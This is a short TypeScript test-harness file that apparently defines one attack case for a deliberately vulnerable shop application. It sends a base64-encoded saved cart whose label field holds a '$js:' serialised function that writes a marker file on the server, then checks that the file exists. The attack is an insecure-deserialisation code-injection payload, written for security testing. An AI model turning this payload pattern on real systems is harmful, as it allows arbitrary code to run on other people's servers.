import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Writes a file from a function in a saved cart, and answers nothing. */
export const deserialiseWrite: Attack = defineAttack({
  id: 'deserialise-write',
  class: 'deserialisation',
  title: 'Writes a file from a function in a saved cart, and answers nothing',
  cwe: 502,
  capec: 586,
  technique: 'T1059.007',
  preconditions: ['the folder of the application is known'],

  steps: ({ visitor, witness }) => {
    const path = JSON.stringify(`${witness.folder}/files/owned.txt`)
    const label = `$js:() => { process.getBuiltinModule('fs').writeFileSync(${path}, 'owned'); return 'ok' }`
    return visitor.form('/cart/import', { cart: Buffer.from(JSON.stringify({ label })).toString('base64') })
  },
  oracle: (_answer, { witness }) => witness.file('files/owned.txt') === 'owned',
  twin: ({ visitor }) => {
    const saved = { lines: [{ product: 7, quantity: 1 }], label: 'gift' }
    return visitor.form('/cart/import', { cart: Buffer.from(JSON.stringify(saved)).toString('base64') })
  },
})
